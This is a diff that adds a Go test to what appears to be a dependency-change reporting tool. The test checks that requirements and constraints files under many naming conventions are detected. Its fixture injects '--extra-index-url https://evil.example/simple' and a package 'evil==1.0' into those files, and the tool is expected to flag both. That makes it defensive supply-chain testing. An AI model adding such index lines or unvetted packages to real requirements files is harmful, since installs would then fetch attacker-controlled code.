@@ -215,3 +215,33 @@ func TestListBoundsIncludes(t *testing.T) {
 		t.Errorf("unread reasons %v", counts)
 	}
 }
+
+// TestListReadsRequirementsFilesByTheirUsualNames: pip reads any file it is given (pip
+// install -r, PIP_CONSTRAINT, a CI script), whatever its name, so a requirements or
+// constraints file that no manifest includes is read by the names projects give them: a
+// requirements folder, a .in file of pip-tools, constraints, any case. Each was unlisted
+// before: a new index and a new package with nothing said.
+func TestListReadsRequirementsFilesByTheirUsualNames(t *testing.T) {
+	t.Parallel()
+	for _, p := range []string{
+		"requirements/dev.txt", "requirements/base.in", "ci/requirements/lint.txt", "requirements-dev.in",
+		"constraints.txt", "ci/constraints-py311.txt", "Requirements.txt", "REQUIREMENTS.TXT", "Dev-Requirements.txt",
+	} {
+		t.Run(strings.ReplaceAll(p, "/", "_"), func(t *testing.T) {
+			t.Parallel()
+			rep := listOf(t, map[string]string{p: "requests==2.31.0\n"}, func(dir string) {
+				gittest.Write(t, dir, map[string]string{p: "--extra-index-url https://evil.example/simple\nrequests==2.31.0\nevil==1.0\n"})
+			})
+			want := p + " PyPI evil added ->1.0\n"
+			if strings.Contains(p, "constraints") {
+				want = p + " PyPI evil(constraint) added ->1.0\n" // it installs nothing
+			}
+			if got := short(rep.Changes); got != want {
+				t.Errorf("changes\n%swant\n%s", got, want)
+			}
+			if got, want := settingsOf(rep), p+" added --extra-index-url https://evil.example/simple\n"; got != want {
+				t.Errorf("settings\n%swant\n%s", got, want)
+			}
+		})
+	}
+}
